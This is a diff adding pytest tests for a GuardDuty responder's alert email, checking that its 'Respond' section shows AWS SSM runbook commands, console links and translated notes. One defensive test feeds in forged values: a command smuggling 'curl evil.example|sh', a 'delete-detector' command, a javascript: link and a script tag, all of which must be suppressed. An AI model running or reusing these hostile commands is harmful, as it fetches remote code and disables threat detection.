@@ -3,15 +3,19 @@
 from __future__ import annotations
 
 import re
+from dataclasses import replace
 from html.parser import HTMLParser
 
 import pytest
 
+from responder.domain import render as render_module
 from responder.domain.catalog import EN, message
 from responder.domain.classify import classify
 from responder.domain.cleaning import clean, defang
+from responder.domain.i18n import Locale, translator
 from responder.domain.models import GuardDutyEvent
 from responder.domain.render import BAND_COLOURS, MAX_TEXT_BYTES, render, subject
+from responder.domain.runbooks import Offer
 from responder.domain.settings import Settings
 from tests.conftest import FINDING_EVENTS, finding_from, load, minimal_event
 
@@ -435,3 +439,244 @@ def test_a_named_account_in_japanese_names_it_in_the_local_subject_and_the_japan
     assert hostile.local_subject is not None
     assert "evil" not in hostile.local_subject and "evil" not in hostile.subject
     assert f"{message('f.account', 'ja')}: <b>x</b> evil[.]com (123456789012)" in hostile.text
+
+
+# --- Respond section (issue 14) ------------------------------------------------------
+
+DOS = "events/Backdoor_EC2_DenialOfService.Tcp.json"  # an EC2 instance to isolate, valid identifiers
+ISOLATE = "GuardDutyResponder-IsolateEc2Instance"
+OTHER_ACCOUNT_COMMAND = (
+    "aws ssm start-automation-execution --region eu-west-1 --document-name GuardDutyResponder-BlockS3PublicAccess"
+    " --parameters BucketName=my-bucket,FindingId=abc"
+)
+CONSOLE = "https://eu-west-1.console.aws.amazon.com/systems-manager/automation/execute/GuardDutyResponder-BlockS3PublicAccess?region=eu-west-1"
+
+
+def with_offers(c, *offers):
+    """``c`` offering exactly ``offers`` (hand-built, as ``respond`` would build them)."""
+    return replace(c, links=replace(c.links, respond=tuple(offers)))
+
+
+def section(text, heading_key, lang="en"):
+    """The lines of one text section, up to the next heading."""
+    lines = text.splitlines()
+    start = lines.index(f"== {translator(lang)(EN[heading_key]).upper()} ==")
+    end = next((i for i in range(start + 1, len(lines)) if lines[i].startswith("== ")), len(lines))
+    return lines[start + 1 : end]
+
+
+def test_the_respond_section_follows_the_steps_with_each_command_on_its_own_line_and_the_step_points_to_it():
+    # Given a real finding about an EC2 instance whose identifiers are valid
+    c = classify(finding_from(DOS), Settings())
+    isolate = next(offer for offer in c.links.respond if offer.key == "isolate")
+    assert isolate.command and isolate.console_url
+    # When it is rendered
+    email = render(c)
+    # Then "Respond" comes right after "What to do now", before "After-care"
+    headings = [line for line in email.text.splitlines() if line.startswith("== ")]
+    todo = headings.index(f"== {EN['h.todo'].upper()} ==")
+    assert headings[todo + 1] == f"== {EN['h.respond'].upper()} =="
+    assert headings[todo + 2] == f"== {EN['h.aftercare'].upper()} =="
+    respond = section(email.text, "h.respond")
+    # each offer: its label, the exact command alone on its line, its console link
+    assert f"- {EN['r.isolate']}" in respond
+    assert f"  {isolate.command}" in respond
+    assert f"  {EN['r.console']}: {isolate.console_url}" in respond
+    # the isolate step ends with a pointer to the runbook, and only that step
+    steps = section(email.text, "h.todo")
+    pointer = EN["r.see_respond"].format(name=ISOLATE)
+    pointed = [line for line in steps if pointer in line]
+    assert len(pointed) == 1
+    index = c.presentation.step_intents.index(isolate.intent)
+    assert pointed[0] == f"{index + 1}. {c.presentation.steps[index]} {pointer}"
+    # and the HTML shows the command in a pre/code block that never wraps, and the link
+    assert f'white-space:pre;overflow-x:auto;"><code>{isolate.command}</code></pre>' in email.html
+    assert f'<a href="{isolate.console_url.replace("&", "&amp;")}"' in email.html
+    assert pointer in email.html
+
+
+def test_no_offer_no_respond_section_and_no_pointer():
+    # Given a finding offering nothing (runbooks disabled, for instance)
+    c = with_offers(classify(finding_from(DOS), Settings()))
+    # When it is rendered
+    email = render(c)
+    # Then neither body has the section, its words or a pointer
+    for body in (email.text, email.html):
+        assert EN["h.respond"].upper() not in body and EN["h.respond"] not in body
+        assert "start-automation-execution" not in body
+        assert "(runbook:" not in body
+
+
+def test_the_archive_runbook_complements_the_after_care_archive_command():
+    # Given a finding with the archive runbook offered
+    c = classify(finding_from(DOS), Settings())
+    archive = next(offer for offer in c.links.respond if offer.key == "archive")
+    # When it is rendered
+    text = render(c).text
+    # Then the Respond section offers the runbook (saying it does what archive-findings does) ...
+    respond = section(text, "h.respond")
+    assert f"- {EN['r.archive']}" in respond and f"  {archive.command}" in respond
+    assert "archive-findings" in EN["r.archive"]
+    # ... while After-care keeps its note (when to archive: the one place) and the direct command
+    aftercare = section(text, "h.aftercare")
+    assert f"  {c.links.archive_command}" in aftercare
+    assert not any("start-automation-execution" in line for line in aftercare)
+
+
+@pytest.mark.parametrize("lang", ["en", "ja"])
+def test_a_note_is_translated_with_its_values(lang):
+    # Given hand-built offers: one for another account, one whose value failed its rule
+    c = with_offers(
+        classify(finding_from(DOS), Settings()),
+        Offer(
+            "public_access",
+            None,
+            OTHER_ACCOUNT_COMMAND,
+            CONSOLE,
+            "r.note.other_account",
+            (("account", "111122223333"),),
+        ),
+        Offer("isolate", "isolate", None, None, "r.note.invalid", (("field", "InstanceId"),)),
+        Offer("credentials", "rotate", None, None, "r.note.invalid", (("field", "account"),)),
+    )
+    # When rendered in the language
+    email = render(c, Locale(lang))
+    respond = section(email.text, "h.respond", lang)
+    tr = translator(lang)
+    # Then each note is in the language, with its values; commands are never translated
+    assert f"  {tr(EN['r.note.other_account']).format(account='111122223333')}" in respond
+    assert f"  {tr(EN['r.note.invalid']).format(field='InstanceId')}" in respond  # a parameter name stays
+    assert f"  {tr(EN['r.note.invalid']).format(field=tr(EN['r.field.account']))}" in respond  # a word is translated
+    assert f"  {OTHER_ACCOUNT_COMMAND}" in respond
+    # an offer without a command is still listed (label and note), with no command line
+    assert sum(line.startswith("  aws ") for line in respond) == 1
+    assert f"- {tr(EN['r.isolate'])}" in respond
+
+
+def test_a_command_or_link_not_of_the_shape_respond_builds_is_never_shown():
+    # Given offers whose command and link were not built by respond (a bug there, or forged)
+    hostile = "aws ssm start-automation-execution --parameters InstanceId=i-1;curl evil.example|sh"
+    c = with_offers(
+        classify(finding_from(DOS), Settings()),
+        Offer("isolate", "isolate", hostile, "https://evil.example/systems-manager/x", None),
+        Offer("archive", None, "aws guardduty delete-detector --detector-id x", "javascript:alert(1)", None),
+        Offer("public_access", None, None, None, "r.note.other_account", (("account", "<script>x</script>"),)),
+    )
+    # When it is rendered
+    email = render(c)
+    collector = LinkCollector()
+    collector.feed(email.html)
+    # Then neither command nor link is shown; a left-out command says so; values are escaped
+    for body in (email.text, email.html):
+        assert "curl" not in body and "delete-detector" not in body
+        assert "evil.example" not in body and "javascript:" not in body
+    assert all("systems-manager" not in url for url in collector.urls)
+    assert email.text.count(f"  {EN['r.note.unknown']}") == 2
+    assert "<script>x" not in email.html and "&lt;script&gt;x" in email.html
+
+
+def test_an_unknown_note_key_or_a_missing_value_never_fails_the_email():
+    # Given notes the catalogue does not know, or lacking a value they name
+    c = with_offers(
+        classify(finding_from(DOS), Settings()),
+        Offer("isolate", "isolate", None, None, "r.note.not_in_the_catalogue"),
+        Offer("archive", None, None, None, "r.note.other_account"),
+    )
+    # When it is rendered
+    respond = section(render(c).text, "h.respond")
+    # Then the first says to see the console, the second shows "?" for the missing account
+    assert f"  {EN['r.note.unknown']}" in respond
+    assert f"  {EN['r.note.other_account'].format(account='?')}" in respond
+
+
+def test_a_step_points_only_to_a_runbook_that_can_act():
+    # Given the root user's credentials: the offer says no runbook can contain them
+    c = classify(finding_from("events/Policy_IAMUser_RootCredentialUsage.json"), Settings())
+    [root] = [offer for offer in c.links.respond if offer.key == "credentials"]
+    assert root.note == "r.note.root" and root.command is None
+    # When it is rendered
+    text = render(c).text
+    # Then the section explains it, and no step points to the credentials runbook
+    assert f"  {EN['r.note.root']}" in section(text, "h.respond")
+    assert "GuardDutyResponder-ContainIamCredentials, below" not in text
+
+
+def test_several_buckets_point_once_to_their_runbook():
+    # Given three public-access offers answering one step (one per bucket)
+    c = classify(finding_from(DOS), Settings())
+    intent = c.presentation.step_intents[1]
+    offers = [
+        Offer("public_access", intent, OTHER_ACCOUNT_COMMAND.replace("my-bucket", f"b{i}x"), CONSOLE) for i in range(3)
+    ]
+    # When it is rendered
+    text = render(with_offers(c, *offers)).text
+    # Then the step names the runbook once, and each bucket's command is listed
+    pointer = EN["r.see_respond"].format(name="GuardDutyResponder-BlockS3PublicAccess")
+    assert text.count(pointer) == 1 and f"2. {c.presentation.steps[1]} {pointer}" in text
+    assert all(f"BucketName=b{i}x," in text for i in range(3))
+
+
+def test_the_japanese_respond_section_keeps_commands_names_and_links_as_they_are():
+    # Given the same finding in Japanese
+    en = classify(finding_from(DOS), Settings())
+    ja_settings = Settings(language="ja")
+    ja = classify(finding_from(DOS), ja_settings)
+    # When both are rendered
+    english, japanese = render(en).text, render(ja, ja_settings.locale).text
+    # Then the Japanese section has the Japanese heading and labels and the very same commands and links
+    assert "== 対応 (あなたが実行するまで何も実行されません) ==" in japanese
+    respond = section(japanese, "h.respond", "ja")
+    for offer in ja.links.respond:
+        assert f"  {offer.command}" in respond and offer.command in english
+        assert f"  {translator('ja')(EN['r.console'])}: {offer.console_url}" in respond
+    assert "(下記のランブック: GuardDutyResponder-IsolateEc2Instance)" in japanese
+
+
+def long_finding():
+    """A finding whose values fill the email: it fits only once they are shortened."""
+    huge = "x" * 5_000
+    event = minimal_event(
+        "Backdoor:EC2/DenialOfService.Tcp",
+        8.0,
+        description=huge,
+        service={
+            "detectorId": "abcdef0123456789abcdef0123456789",
+            "count": 1,
+            "archived": False,
+            "resourceRole": "ACTOR",
+            "evidence": {"threatIntelligenceDetails": [{"threatListName": huge, "threatNames": [huge] * 50}] * 50},
+        },
+    )
+    return classify(GuardDutyEvent.model_validate(event).detail, Settings())
+
+
+def test_a_long_finding_keeps_its_respond_section_once_its_values_are_shortened():
+    # Given a finding far over the SNS limit at full length, with an isolate runbook offered
+    c = long_finding()
+    assert {offer.key for offer in c.links.respond} >= {"isolate", "archive"}
+    # When it is rendered
+    email = render(c)
+    # Then it fits, its values are shortened, and the Respond section (small, ours) is kept
+    assert len(email.text.encode("utf-8")) <= MAX_TEXT_BYTES
+    assert message("l.truncated") in email.text
+    assert all(f"  {offer.command}" in email.text for offer in c.links.respond)
+
+
+def test_the_respond_section_goes_before_the_evidence_when_even_short_values_do_not_fit(monkeypatch):
+    # Given the long finding, and the size of its shortest form without the Respond section
+    c = long_finding()
+    monkeypatch.setattr(render_module, "MAX_TEXT_BYTES", 1)  # nothing fits: the last attempt is kept
+    bare = len(render(c).text.encode())
+    # When the limit is exactly that size
+    monkeypatch.setattr(render_module, "MAX_TEXT_BYTES", bare)
+    email = render(c)
+    # Then the Respond section and its pointers are gone; the evidence and everything else stay
+    assert len(email.text.encode()) == bare
+    assert EN["h.respond"].upper() not in email.text and EN["h.respond"] not in email.html
+    assert "(runbook:" not in email.text and "start-automation-execution" not in email.html
+    assert f"== {EN['h.evidence'].upper()} ==" in email.text
+    assert c.links.archive_command in email.text
+    # And with room for the section (a few kB), the shortest values keep it
+    monkeypatch.setattr(render_module, "MAX_TEXT_BYTES", bare + 4_000)
+    kept = render(c)
+    assert EN["h.respond"].upper() in kept.text and len(kept.text.encode()) <= bare + 4_000
